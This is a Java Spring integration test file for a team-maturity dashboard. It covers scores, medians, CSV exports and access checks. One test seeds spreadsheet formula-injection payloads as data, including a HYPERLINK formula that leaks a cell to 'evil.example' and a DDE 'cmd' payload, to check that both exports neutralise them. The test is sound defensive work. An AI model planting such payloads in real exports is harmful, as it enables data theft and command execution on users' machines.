package dev.platformmaturity.dashboard;

import java.io.StringReader;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.test.web.servlet.request.RequestPostProcessor;

import dev.platformmaturity.account.Role;
import dev.platformmaturity.account.SystemTask;
import dev.platformmaturity.assessment.AssessmentStatus;
import dev.platformmaturity.assessment.Assessments;
import dev.platformmaturity.model.MaturityModel;
import dev.platformmaturity.model.ModelCatalog;
import dev.platformmaturity.support.IntegrationTest;
import dev.platformmaturity.support.MovableClock;
import dev.platformmaturity.support.StatementCounter;
import dev.platformmaturity.support.TestAssessments;
import dev.platformmaturity.support.TestData;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.tuple;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.hasSize;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.httpBasic;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.user;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.content;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.jsonPath;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

/**
 * The dashboard's aggregates against numbers computed by hand on a seeded set, its
 * bounded number of queries, its CSV exports and its refusals.
 */
@IntegrationTest
class DashboardTest {

	@Autowired
	MockMvc mvc;

	@Autowired
	TestData data;

	@Autowired
	JdbcClient jdbc;

	@Autowired
	TestAssessments given;

	@Autowired
	ModelCatalog catalog;

	@Autowired
	Assessments assessments;

	@Autowired
	Dashboards dashboards;

	@Autowired
	MovableClock clock;

	long group;

	TestData.Team alpha;

	TestData.Team beta;

	TestData.Team gamma;

	TestData.Quarter quarter;

	TestData.Person lead;

	/**
	 * Alpha (submitted): investment 1, 2, 2, n/a → 1.67; adoption 3, 3, 4, 4 → 3.50;
	 * interfaces all n/a → no score; operations 4 → 4.00; measurement unanswered → no
	 * score. Beta (in progress): investment 2, 2, 3, 3 → 2.50; adoption 1, 1, 1, 2 →
	 * 1.25; interfaces 2, 3 → 2.50. Gamma: not started.
	 */
	@BeforeEach
	void seededQuarter() {
		group = data.group("Dashboard");
		alpha = data.team("Alpha", group);
		beta = data.team("Beta", group);
		gamma = data.team("Gamma", group);
		TestData.Person author = data.member(alpha, beta);
		quarter = data.closedQuarter();
		lead = data.person(Role.LEAD);
		load(alpha, AssessmentStatus.SUBMITTED, author,
				Map.of("investment_1", 1, "investment_2", 2, "investment_3", 2, "adoption_1", 3, "adoption_2", 3,
						"adoption_3", 4, "adoption_4", 4, "operations_1", 4),
				Set.of("investment_4", "interfaces_1", "interfaces_2", "interfaces_3", "interfaces_4"),
				Map.of("adoption_1", "Line one\nline two, with \"quotes\" and 中文"));
		load(beta, AssessmentStatus.IN_PROGRESS, author,
				Map.of("investment_1", 2, "investment_2", 2, "investment_3", 3, "investment_4", 3, "adoption_1", 1,
						"adoption_2", 1, "adoption_3", 1, "adoption_4", 2, "interfaces_1", 2, "interfaces_2", 3),
				Set.of(), Map.of());
	}

	@Test
	void completionScoresDistributionAndMediansAreAsComputedByHand() {
		Dashboards.Overview overview = overview(true);

		assertThat(overview.completion()).isEqualTo(new Dashboards.Completion(3, 1, 1, 1, 0));
		assertThat(overview.teams()).extracting(Dashboards.TeamRow::name).containsExactly("Alpha", "Beta", "Gamma");
		Dashboards.TeamRow alphaRow = overview.teams().get(0);
		assertThat(alphaRow.scores()).containsExactlyInAnyOrderEntriesOf(Map.of("investment", new BigDecimal("1.67"),
				"adoption", new BigDecimal("3.50"), "operations", new BigDecimal("4.00")));
		assertThat(alphaRow.answered()).isEqualTo(13);
		assertThat(alphaRow.status()).isEqualTo(AssessmentStatus.SUBMITTED);
		assertThat(overview.teams().get(1).scores()).containsEntry("adoption", new BigDecimal("1.25"))
			.containsEntry("interfaces", new BigDecimal("2.50"));
		assertThat(overview.teams().get(2).status()).isEqualTo(AssessmentStatus.NOT_STARTED);
		assertThat(overview.teams().get(2).questions()).as("a team not started has the model's questions ahead")
			.isEqualTo(catalog.currentVersion().questionCount())
			.isEqualTo(20);

		Dashboards.Distribution investment = distribution(overview, "investment");
		assertThat(investment.perLevel()).containsExactly(1, 1, 0, 0);
		assertThat(investment.noScore()).isEqualTo(1);
		assertThat(investment.median()).as("(1.67 + 2.50) / 2 = 2.085, half-up").isEqualByComparingTo("2.09");
		assertThat(investment.scored()).isEqualTo(2);
		assertThat(investment.min()).isEqualByComparingTo("1.67");
		assertThat(investment.max()).isEqualByComparingTo("2.50");
		assertThat(investment.lowerQuartile()).as("1.67 + 0.25 × 0.83 = 1.8775").isEqualByComparingTo("1.88");
		assertThat(investment.upperQuartile()).as("1.67 + 0.75 × 0.83 = 2.2925").isEqualByComparingTo("2.29");
		Dashboards.Distribution interfaces = distribution(overview, "interfaces");
		assertThat(interfaces.perLevel()).containsExactly(0, 1, 0, 0);
		assertThat(interfaces.noScore()).isEqualTo(2);
		assertThat(interfaces.median()).isEqualByComparingTo("2.50");
		Dashboards.Distribution measurement = distribution(overview, "measurement");
		assertThat(measurement.noScore()).isEqualTo(3);
		assertThat(measurement.median()).isNull();
		assertThat(measurement.scored()).isZero();
	}

	@Test
	void finalFiguresLeaveInProgressAssessmentsOutOfEveryFigureAcrossTeams() {
		Dashboards.Overview overview = overview(false);

		assertThat(overview.completion()).isEqualTo(new Dashboards.Completion(3, 1, 1, 1, 0));
		Dashboards.TeamRow betaRow = overview.teams().get(1);
		assertThat(betaRow.status()).isEqualTo(AssessmentStatus.IN_PROGRESS);
		assertThat(betaRow.scores()).as("Beta is in progress: no final score").isEmpty();
		assertThat(betaRow.reviewed()).isEqualTo(10);
		Dashboards.Distribution investment = distribution(overview, "investment");
		assertThat(investment.perLevel()).containsExactly(1, 0, 0, 0);
		assertThat(investment.noScore()).isEqualTo(2);
		assertThat(investment.median()).isEqualByComparingTo("1.67");
		assertThat(investment.scored()).as("the median rests on Alpha alone").isEqualTo(1);
		assertThat(distribution(overview, "interfaces").median()).as("only Beta answered interfaces").isNull();
		assertThat(overview.groups()).singleElement().satisfies(row -> {
			assertThat(row.medians().get("investment")).isEqualTo(new Dashboards.Median(new BigDecimal("1.67"), 1));
			assertThat(row.medians()).doesNotContainKey("interfaces");
		});

		Dashboards.Overview provisional = overview(true);
		assertThat(provisional.groups()).singleElement()
			.satisfies(row -> assertThat(row.medians().get("investment"))
				.isEqualTo(new Dashboards.Median(new BigDecimal("2.09"), 2)));
	}

	@Test
	void moversAndChangesCompareWithTheQuarterBeforeUnderTheSameRule() {
		TestData.Quarter later = data.closedQuarter();
		load(alpha, AssessmentStatus.SUBMITTED, lead, Map.of("investment_1", 3, "investment_2", 3, "adoption_1", 2),
				Set.of(), Map.of());
		load(beta, AssessmentStatus.SUBMITTED, lead, Map.of("adoption_1", 4, "interfaces_1", 1), Set.of(), Map.of());

		Dashboards.Overview overview = SystemTask.run(() -> dashboards.overview(
				new DashboardQuery(later.id(), quarter.id(), group, "", false, false, "team", false, 0, 50),
				aspectKeys()));

		Dashboards.TeamRow alphaRow = overview.teams().get(0);
		assertThat(alphaRow.change("investment")).as("3.00 − 1.67").isEqualByComparingTo("1.33");
		assertThat(alphaRow.change("adoption")).as("2.00 − 3.50").isEqualByComparingTo("-1.50");
		assertThat(overview.teams().get(1).change("adoption"))
			.as("Beta was in progress before: no final score to compare")
			.isNull();
		assertThat(overview.risers()).extracting(Dashboards.Mover::name, Dashboards.Mover::aspect)
			.containsExactly(tuple("Alpha", "investment"));
		assertThat(overview.fallers())
			.extracting(Dashboards.Mover::name, Dashboards.Mover::aspect, Dashboards.Mover::change)
			.containsExactly(tuple("Alpha", "adoption", new BigDecimal("-1.50")));
		Dashboards.Distribution investment = distribution(overview, "investment");
		assertThat(investment.previous()).isEqualTo(new Dashboards.Median(new BigDecimal("1.67"), 1));
		assertThat(investment.median()).as("Beta has no investment answer now").isEqualByComparingTo("3.00");
		assertThat(investment.change()).isEqualByComparingTo("1.33");

		Dashboards.Overview provisional = SystemTask.run(() -> dashboards.overview(
				new DashboardQuery(later.id(), quarter.id(), group, "", true, false, "team", false, 0, 50),
				aspectKeys()));
		assertThat(provisional.teams().get(1).change("adoption")).as("4.00 − 1.25, provisional before")
			.isEqualByComparingTo("2.75");
		assertThat(provisional.risers()).extracting(Dashboards.Mover::name, Dashboards.Mover::aspect)
			.containsExactly(tuple("Beta", "adoption"), tuple("Alpha", "investment"));
	}

	@Test
	void sortingBySearchingInAndFilteringTheHeatmap() {
		assertThat(names(dashboards("investment", true, ""))).containsExactly("Beta", "Alpha", "Gamma");
		assertThat(names(dashboards("adoption", false, ""))).containsExactly("Beta", "Alpha", "Gamma");
		assertThat(names(dashboards("status", true, ""))).containsExactly("Alpha", "Beta", "Gamma");
		assertThat(names(dashboards("team", false, "et"))).containsExactly("Beta");
		assertThat(names(dashboards("team", false, "%"))).isEmpty();
	}

	@Test
	void theDatabaseScoresAgreeWithTheScoringRuleOnRandomAnswers() {
		long randomGroup = data.group("Random");
		TestData.Quarter randomQuarter = data.closedQuarter();
		Random random = new Random(42);
		List<TestData.Team> teams = new ArrayList<>();
		for (int i = 0; i < 25; i++) {
			TestData.Team team = data.team("Random " + i, randomGroup);
			teams.add(team);
			Map<String, Integer> levels = new HashMap<>();
			Set<String> notApplicable = new HashSet<>();
			for (MaturityModel.Aspect aspect : catalog.current().aspects()) {
				for (MaturityModel.Question question : aspect.questions()) {
					double roll = random.nextDouble();
					if (roll < 0.15) {
						notApplicable.add(question.id());
					}
					else if (roll < 0.85) {
						levels.put(question.id(), 1 + random.nextInt(4));
					}
				}
			}
			given.submitted(team, randomQuarter, lead).levels(levels).notApplicable(notApplicable).load();
		}
		Map<String, Map<String, BigDecimal>> fromDatabase = new HashMap<>();
		SystemTask.run(() -> dashboards.eachTeam(DashboardQuery.of(randomQuarter.id(), null, randomGroup, false),
				row -> fromDatabase.put(row.slug(), row.scores())));

		for (TestData.Team team : teams) {
			Map<String, BigDecimal> expected = new HashMap<>();
			SystemTask.run(() -> assessments.state(team.slug(), randomQuarter.label()))
				.scores()
				.forEach((aspect, score) -> score.ifPresent(value -> expected.put(aspect, value)));
			assertThat(fromDatabase.get(team.slug())).as(team.slug()).isEqualTo(expected);
		}
	}

	@Test
	void theDashboardRunsTheSameNumberOfStatementsForThreeOrThirtyTeams() throws Exception {
		int forThree = StatementCounter.count(() -> page("/dashboard?quarter=" + quarter.label() + "&group=" + group));
		for (int i = 0; i < 27; i++) {
			TestData.Team more = data.team("More " + i, group);
			load(more, AssessmentStatus.SUBMITTED, lead, Map.of("investment_1", 1 + i % 4), Set.of(), Map.of());
		}
		int forThirty = StatementCounter.count(() -> page("/dashboard?quarter=" + quarter.label() + "&group=" + group));
		int apiForThirty = StatementCounter.count(() -> {
			try {
				mvc.perform(get("/api/v1/dashboard?quarter=" + quarter.label() + "&group=" + group).with(asLead()))
					.andExpect(jsonPath("$.teams", hasSize(30)));
			}
			catch (Exception failed) {
				throw new IllegalStateException(failed);
			}
		});

		// a fixed number, whatever the number of teams shown
		assertThat(forThree).isPositive().isLessThanOrEqualTo(8);
		assertThat(forThirty).isEqualTo(forThree);
		assertThat(apiForThirty).isLessThanOrEqualTo(10);
	}

	@Test
	void theHeatmapCsvHasAByteOrderMarkAndParsesBack() throws Exception {
		byte[] body = mvc
			.perform(get("/dashboard/heatmap.csv?quarter=" + quarter.label() + "&group=" + group).with(asLead()))
			.andExpect(status().isOk())
			.andReturn()
			.getResponse()
			.getContentAsByteArray();

		assertThat(body).startsWith(0xEF, 0xBB, 0xBF);
		List<CSVRecord> records = parse(body);
		assertThat(records).hasSize(3);
		CSVRecord alphaRecord = records.stream()
			.filter(r -> r.get("team").equals(alpha.slug()))
			.findFirst()
			.orElseThrow();
		assertThat(alphaRecord.get("investment")).isEqualTo("1.67");
		assertThat(alphaRecord.get("interfaces")).isEmpty();
		assertThat(alphaRecord.get("status")).isEqualTo("SUBMITTED");
		assertThat(alphaRecord.get("quarter")).isEqualTo(quarter.label());
	}

	@Test
	void theHeatmapCsvCountsQuestionsOfTeamsNotStartedAndSaysWhichFiguresAreFinal() throws Exception {
		List<CSVRecord> finalOnly = parse(
				mvc.perform(get("/dashboard/heatmap.csv?quarter=" + quarter.label() + "&group=" + group).with(asLead()))
					.andReturn()
					.getResponse()
					.getContentAsByteArray());
		CSVRecord gammaRecord = record(finalOnly, gamma);
		assertThat(gammaRecord.get("status")).isEqualTo("NOT_STARTED");
		assertThat(gammaRecord.get("questions")).isEqualTo("20");
		assertThat(gammaRecord.get("answered")).isEqualTo("0");
		assertThat(gammaRecord.get("figures")).isEqualTo("none");
		assertThat(record(finalOnly, alpha).get("figures")).isEqualTo("final");
		CSVRecord betaFinal = record(finalOnly, beta);
		assertThat(betaFinal.get("investment")).isEmpty();
		assertThat(betaFinal.get("figures")).isEqualTo("none");
		assertThat(betaFinal.get("reviewed")).isEqualTo("10");
		assertThat(betaFinal.get("overdue")).isEqualTo("false");

		List<CSVRecord> withProvisional = parse(mvc
			.perform(get("/dashboard/heatmap.csv?quarter=" + quarter.label() + "&group=" + group + "&provisional=true")
				.with(asLead()))
			.andReturn()
			.getResponse()
			.getContentAsByteArray());
		assertThat(record(withProvisional, beta).get("investment")).isEqualTo("2.50");
		assertThat(record(withProvisional, beta).get("figures")).isEqualTo("provisional");
	}

	@Test
	void overdueTeamsAreCountedMarkedFilteredAndSortedFirst() throws Exception {
		TestData.Quarter open = data.openQuarter();
		LocalDate due = jdbc.sql("select due_on from quarter where id = ?")
			.param(open.id())
			.query(LocalDate.class)
			.single();
		given.submitted(alpha, open, lead).levels(Map.of("investment_1", 3)).load();
		given.inProgress(beta, open, lead).levels(Map.of("investment_1", 2)).load();
		DashboardQuery all = new DashboardQuery(open.id(), null, group, "", false, false, "overdue", true, 0, 50);
		try {
			clock.moveTo(due);
			assertThat(SystemTask.run(() -> dashboards.completion(all)).overdue()).as("on the due date").isZero();

			clock.moveTo(due.plusDays(1));
			Dashboards.Overview overview = SystemTask.run(() -> dashboards.overview(all, aspectKeys()));
			assertThat(overview.completion().overdue()).isEqualTo(2);
			assertThat(overview.teams()).extracting(Dashboards.TeamRow::name, Dashboards.TeamRow::overdue)
				.containsExactly(tuple("Beta", true), tuple("Gamma", true), tuple("Alpha", false));
			DashboardQuery overdueOnly = new DashboardQuery(open.id(), null, group, "", false, true, "team", false, 0,
					50);
			assertThat(names(SystemTask.run(() -> dashboards.overview(overdueOnly, aspectKeys())).teams()))
				.containsExactly("Beta", "Gamma");
			String page = mvc
				.perform(get("/dashboard?quarter=" + open.label() + "&group=" + group + "&overdue=true").with(asLead()))
				.andExpect(status().isOk())
				.andReturn()
				.getResponse()
				.getContentAsString();
			assertThat(page)
				.contains("2 overdue", "badge--overdue", "compare-" + beta.slug(), "compare-" + gamma.slug())
				.doesNotContain("compare-" + alpha.slug());
		}
		finally {
			clock.reset();
		}
	}

	@Test
	void theAnswersCsvKeepsLineBreaksQuotesAndChineseInComments() throws Exception {
		byte[] body = mvc
			.perform(get("/dashboard/answers.csv?quarter=" + quarter.label() + "&group=" + group).with(asLead()))
			.andExpect(status().isOk())
			.andReturn()
			.getResponse()
			.getContentAsByteArray();

		List<CSVRecord> records = parse(body);
		assertThat(records).hasSize(13 + 10);
		CSVRecord commented = records.stream()
			.filter(r -> r.get("question").equals("adoption_1") && r.get("team").equals(alpha.slug()))
			.findFirst()
			.orElseThrow();
		assertThat(commented.get("comment")).isEqualTo("Line one\nline two, with \"quotes\" and 中文");
		assertThat(commented.get("option_level")).isEqualTo("3");
		assertThat(commented.get("aspect")).isEqualTo("adoption");
		assertThat(records).anyMatch(r -> r.get("not_applicable").equals("true") && r.get("option_level").isEmpty());
	}

	@Test
	void bothCsvExportsNeutraliseCellsASpreadsheetWouldRunAsFormulas() throws Exception {
		long formulaGroup = data.group("@SUM(1+1)");
		String teamName = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")";
		TestData.Team formulaTeam = data.team(teamName, formulaGroup);
		TestData.Person author = data.member(formulaTeam);
		jdbc.sql("update person set display_name = '+SUM(A1:A9)' where id = ?").param(author.id()).update();
		load(formulaTeam, AssessmentStatus.SUBMITTED, author,
				Map.of("investment_1", 2, "investment_2", 3, "adoption_1", 1), Set.of(), Map.of("investment_1", "-2+3",
						"investment_2", "\t=1+1", "adoption_1", "\r=cmd|' /C calc'!A0", "adoption_2", "@A1"));
		String groupName = jdbc.sql("select name from team_group where id = ?")
			.param(formulaGroup)
			.query(String.class)
			.single();

		String query = "?quarter=" + quarter.label() + "&group=" + formulaGroup;
		CSVRecord heatmap = parse(csv("/dashboard/heatmap.csv" + query)).get(0);
		assertThat(heatmap.get("team_name")).isEqualTo("'" + teamName);
		assertThat(heatmap.get("group")).isEqualTo("'" + groupName);
		assertThat(heatmap.get("investment")).as("a score the application writes").isEqualTo("2.50");
		assertThat(heatmap.get("answered")).isEqualTo("3");

		Map<String, CSVRecord> answers = new HashMap<>();
		parse(csv("/dashboard/answers.csv" + query)).forEach(record -> answers.put(record.get("question"), record));
		assertThat(answers.get("investment_1").get("comment")).isEqualTo("'-2+3");
		assertThat(answers.get("investment_2").get("comment")).isEqualTo("'\t=1+1");
		assertThat(answers.get("adoption_1").get("comment")).isEqualTo("'\r=cmd|' /C calc'!A0");
		assertThat(answers.get("adoption_2").get("comment")).isEqualTo("'@A1");
		assertThat(answers.get("investment_1").get("team_name")).isEqualTo("'" + teamName);
		assertThat(answers.get("investment_1").get("group")).isEqualTo("'" + groupName);
		assertThat(answers.get("investment_1").get("answered_by")).isEqualTo("'+SUM(A1:A9)");
		assertThat(answers.get("investment_1").get("option_level")).isEqualTo("2");
	}

	private byte[] csv(String path) throws Exception {
		return mvc.perform(get(path).with(asLead()))
			.andExpect(status().isOk())
			.andReturn()
			.getResponse()
			.getContentAsByteArray();
	}

	@Test
	void theApiGivesTheHeatmapAndCompletion() throws Exception {
		mvc.perform(get("/api/v1/dashboard?quarter=" + quarter.label() + "&group=" + group)
			.with(httpBasic(lead.username(), TestData.PASSWORD)))
			.andExpect(status().isOk())
			.andExpect(jsonPath("$.quarter").value(quarter.label()))
			.andExpect(jsonPath("$.completion.submitted").value(1))
			.andExpect(jsonPath("$.completion.notStarted").value(1))
			.andExpect(jsonPath("$.teams", hasSize(3)))
			.andExpect(jsonPath("$.teams[0].scores.investment").value(1.67))
			.andExpect(jsonPath("$.teams[2].status").value("NOT_STARTED"));
	}

	@Test
	void badRequestsAreExplainedAndMembersAreRefused() throws Exception {
		mvc.perform(get("/dashboard?quarter=1999-Q9").with(asLead())).andExpect(status().isNotFound());
		mvc.perform(get("/api/v1/dashboard?quarter=1999-Q9").with(asLead()))
			.andExpect(status().isNotFound())
			.andExpect(jsonPath("$.detail").value("There is no quarter 1999-Q9."));
		mvc.perform(get("/api/v1/dashboard?quarter=" + quarter.label() + "&group=987654321").with(asLead()))
			.andExpect(status().isNotFound())
			.andExpect(jsonPath("$.detail").value("There is no group 987654321."));
		mvc.perform(get("/dashboard/compare?quarter=" + quarter.label() + "&team=" + alpha.slug()).with(asLead()))
			.andExpect(status().isBadRequest())
			.andExpect(content().string(containsString("Choose 2 to 4 teams to compare; you chose 1.")));
		TestData.Team delta = data.team("Delta", group);
		TestData.Team epsilon = data.team("Epsilon", group);
		mvc.perform(
				get("/dashboard/compare?quarter=" + quarter.label() + "&team=" + alpha.slug() + "&team=" + beta.slug()
						+ "&team=" + gamma.slug() + "&team=" + delta.slug() + "&team=" + epsilon.slug())
					.with(asLead())
					.header("Accept-Language", "zh-CN"))
			.andExpect(status().isBadRequest())
			.andExpect(content().string(containsString("请选择 2 到 4 个团队进行比较；您选择了 5 个。")));
		mvc.perform(
				get("/dashboard/compare?quarter=" + quarter.label() + "&team=" + alpha.slug() + "&team=no-such-team")
					.with(asLead()))
			.andExpect(status().isNotFound());

		RequestPostProcessor member = user(data.principal(data.member(alpha)));
		mvc.perform(get("/dashboard").with(member)).andExpect(status().isForbidden());
		mvc.perform(get("/dashboard/heatmap.csv").with(member)).andExpect(status().isForbidden());
		mvc.perform(get("/dashboard/trends").with(member)).andExpect(status().isForbidden());
		mvc.perform(get("/api/v1/dashboard").with(member)).andExpect(status().isForbidden());
	}

	@Test
	void comparingThreeTeamsOverlaysThemOnOneRadarWithATable() throws Exception {
		String page = mvc
			.perform(get("/dashboard/compare?quarter=" + quarter.label() + "&team=" + alpha.slug() + "&team="
					+ beta.slug() + "&team=" + gamma.slug())
				.with(asLead()))
			.andExpect(status().isOk())
			.andReturn()
			.getResponse()
			.getContentAsString();
		assertThat(page).contains("<svg", "compare-series-0", "compare-series-1", "compare-series-2", "1.67", "2.50",
				"Gamma");
	}

	@Test
	void compareAddsAndRemovesTeamsInPlaceWithTheOrganisationMedianAsReference() throws Exception {
		String base = "/dashboard/compare?quarter=" + quarter.label() + "&team=" + alpha.slug() + "&team="
				+ beta.slug();
		String added = mvc.perform(get(base).param("add", " " + gamma.slug().toUpperCase()).with(asLead()))
			.andExpect(status().isOk())
			.andReturn()
			.getResponse()
			.getContentAsString();
		assertThat(added).contains("compare-series-3", "Organisation median (final)", "Gamma",
				"value=\"" + gamma.slug() + "\"");
		assertThat(added).as("a link removes Alpha and keeps the others")
			.contains("/dashboard/compare?quarter=" + quarter.label() + "&amp;team=" + beta.slug() + "&amp;team="
					+ gamma.slug());

		String unknown = mvc
			.perform(get(base).param("add", "no such team").with(asLead()).header("Accept-Language", "zh-CN"))
			.andExpect(status().isBadRequest())
			.andReturn()
			.getResponse()
			.getContentAsString();
		assertThat(unknown).contains("没有简称为“no such team”的团队。", "value=\"no such team\"", "compare-series-2")
			.doesNotContain("compare-series-3");
	}

	@Test
	void trendsShowATeamAndTheMedianOverTheQuarters() throws Exception {
		TestData.Quarter later = data.closedQuarter();
		load(alpha, AssessmentStatus.SUBMITTED, lead, Map.of("investment_1", 4, "investment_2", 4), Set.of(), Map.of());
		String team = mvc.perform(get("/dashboard/trends?team=" + alpha.slug()).with(asLead()))
			.andExpect(status().isOk())
			.andReturn()
			.getResponse()
			.getContentAsString();
		assertThat(team).contains("<svg", quarter.label(), later.label(), "1.67", "4.00");
		String finalOnly = mvc.perform(get("/dashboard/trends?group=" + group).with(asLead()))
			.andExpect(status().isOk())
			.andReturn()
			.getResponse()
			.getContentAsString();
		assertThat(finalOnly).as("Beta in progress is left out: Alpha's 1.67 alone")
			.contains("1.67", "(1)")
			.doesNotContain("2.09");
		mvc.perform(get("/dashboard/trends?group=" + group + "&provisional=true").with(asLead()))
			.andExpect(status().isOk())
			.andExpect(content().string(containsString("2.09")))
			.andExpect(content().string(containsString("(2)")));
	}

	private void load(TestData.Team team, AssessmentStatus status, TestData.Person author, Map<String, Integer> levels,
			Set<String> notApplicable, Map<String, String> comments) {
		long quarterId = jdbc.sql("select max(id) from quarter where state = 'CLOSED'").query(Long.class).single();
		given.assessment(team, quarterId, status, author)
			.levels(levels)
			.notApplicable(notApplicable)
			.comments(comments)
			.load();
	}

	private List<Dashboards.TeamRow> dashboards(String sort, boolean descending, String search) {
		return SystemTask.run(
				() -> dashboards
					.overview(new DashboardQuery(quarter.id(), null, group,
							dev.platformmaturity.shared.SearchTerms.likePattern(search), true, false, sort, descending,
							0, 50), aspectKeys())
					.teams());
	}

	private Dashboards.Overview overview(boolean provisional) {
		return SystemTask.run(() -> dashboards
			.overview(DashboardQuery.of(quarter.id(), null, group, provisional).page(0, 50), aspectKeys()));
	}

	private static List<String> names(List<Dashboards.TeamRow> rows) {
		return rows.stream().map(Dashboards.TeamRow::name).toList();
	}

	private List<String> aspectKeys() {
		return catalog.current().aspects().stream().map(MaturityModel.Aspect::key).toList();
	}

	private static Dashboards.Distribution distribution(Dashboards.Overview overview, String aspect) {
		return overview.distributions().stream().filter(d -> d.aspect().equals(aspect)).findFirst().orElseThrow();
	}

	private void page(String path) {
		try {
			mvc.perform(get(path).with(asLead())).andExpect(status().isOk());
		}
		catch (Exception failed) {
			throw new IllegalStateException(failed);
		}
	}

	private static CSVRecord record(List<CSVRecord> records, TestData.Team team) {
		return records.stream().filter(r -> r.get("team").equals(team.slug())).findFirst().orElseThrow();
	}

	private static List<CSVRecord> parse(byte[] body) throws Exception {
		String text = new String(body, StandardCharsets.UTF_8).substring(1);
		return CSVFormat.DEFAULT.builder()
			.setHeader()
			.setSkipHeaderRecord(true)
			.get()
			.parse(new StringReader(text))
			.getRecords();
	}

	private RequestPostProcessor asLead() {
		return user(data.principal(lead));
	}

}
